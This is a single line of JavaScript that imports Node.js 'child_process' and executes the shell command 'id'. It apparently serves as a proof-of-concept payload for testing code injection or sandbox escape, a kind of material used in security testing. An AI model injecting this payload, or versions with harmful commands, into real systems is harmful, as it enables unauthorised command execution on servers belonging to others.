import(`child_process`).then(({ exec }) => exec('id'));
